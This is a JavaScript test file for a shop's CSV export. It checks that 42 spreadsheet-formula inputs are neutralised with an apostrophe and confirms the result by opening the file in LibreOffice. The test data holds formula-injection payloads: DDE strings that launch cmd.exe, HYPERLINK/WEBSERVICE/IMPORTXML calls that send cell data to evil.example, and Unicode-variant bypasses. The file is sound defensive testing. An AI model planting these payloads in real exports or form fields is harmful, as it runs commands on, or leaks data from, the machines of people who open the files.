import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { csv } from '../../dist/endpoint/demand/csv.js';

/** What somebody may call a product so that the shop's spreadsheet runs it. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+491701234567',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-SUM(A1:A9)',
  '- oak',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '=@A1',
  '\t=1+1',
  '\tText',
  '\r=1+1',
  '\rText',
  '\n=1+1',
  '\n@A1',
  '\r\n-1',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '\u2028=1+1',
  '\u3000=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\ufe661+1',
  '\ufe621+1',
  '\ufe631+1',
  '\u22121+1',
  '"=1+1"',
];

/** A reader of RFC 4180. */
function parse(text) {
  const rows = [];
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  let row = [];
  for (const [, quoted, plain, end] of text.replace(/^\uFEFF/, '').matchAll(cells)) {
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

describe('E42 A table for spreadsheets', () => {
  it('has none of 42 formulas in it: each is a text that begins with an apostrophe', () => {
    assert.equal(new Set(FORMULAS).size, 42);
    const rows = FORMULAS.map((it) => [it, 1]);
    const text = csv(rows);
    assert.deepEqual(
      parse(text),
      FORMULAS.map((it) => [`'${it}`, '1']),
    );
    assert.equal(text.replace(/^\uFEFF/, '').split('"\'').length - 1, 42);
  });

  // By hand, as LibreOffice is large: BO_SOFFICE=soffice node --test test/endpoint/demand-csv.node.mjs
  // Seen with LibreOffice 7.4.7.2, asked to calculate formulas: of the table no cell is a formula, the 42 texts are texts and
  // the numbers numbers. Of the same texts without the apostrophe nine are formulas, HYPERLINK, WEBSERVICE and DDE among them.
  it(
    'is opened by LibreOffice without a formula, and its numbers as numbers',
    { skip: !process.env.BO_SOFFICE && 'BO_SOFFICE names no LibreOffice' },
    () => {
      const dir = mkdtempSync(join(tmpdir(), 'backorder-csv-'));
      const opened = (name, text) => {
        writeFileSync(join(dir, `${name}.csv`), text);
        // Commas, quotes, UTF-8, and what looks like a formula or a number is one.
        const filter = '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true';
        const profile = `-env:UserInstallation=file://${dir}/profile`;
        const args = ['--headless', profile, filter, '--convert-to', 'fods', '--outdir', dir];
        execFileSync(process.env.BO_SOFFICE, [...args, join(dir, `${name}.csv`)], { stdio: 'ignore' });
        const found = readFileSync(join(dir, `${name}.fods`), 'utf8');
        const count = (it) => found.split(it).length - 1;
        return [
          count('table:formula='),
          count(' office:value-type="string"'),
          count(' office:value-type="float"'),
        ];
      };
      try {
        assert.deepEqual(opened('safe', csv(FORMULAS.map((it) => [it, 1, -3, 864.15]))), [0, 42, 126]);
        const bare = FORMULAS.map((it) => `"${it.replaceAll('"', '""')}",1\r\n`).join('');
        assert.ok(opened('bare', `\uFEFF${bare}`)[0] >= 5, 'the control: without the apostrophe some are');
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    },
  );

  it('leaves other texts as they are', () => {
    const texts = [
      'Oak table',
      "L'oiseau",
      'a=b',
      '3-seater',
      '7 + 1',
      'ünïcode 表',
      '',
      '"quoted", twice',
      'two\nlines',
    ];
    assert.deepEqual(parse(csv([texts])), [texts]);
  });

  it('has numbers as numbers, also those below zero', () => {
    assert.equal(csv([[12, -3, 864.15, undefined, '12']]), '\uFEFF12,-3,864.15,,"12"\r\n');
  });

  it('cannot be left through a quote, a comma, a semicolon or a line break in a text', () => {
    const texts = ['","=1+1', '";=1+1;"', 'x\r\n=1+1', '"\r\n=1+1,"'];
    const [row, ...more] = parse(csv([texts]));
    assert.equal(more.length, 0);
    assert.deepEqual(
      row.map((it) => it.replace(/^'/, '')),
      texts,
    );
  });
});
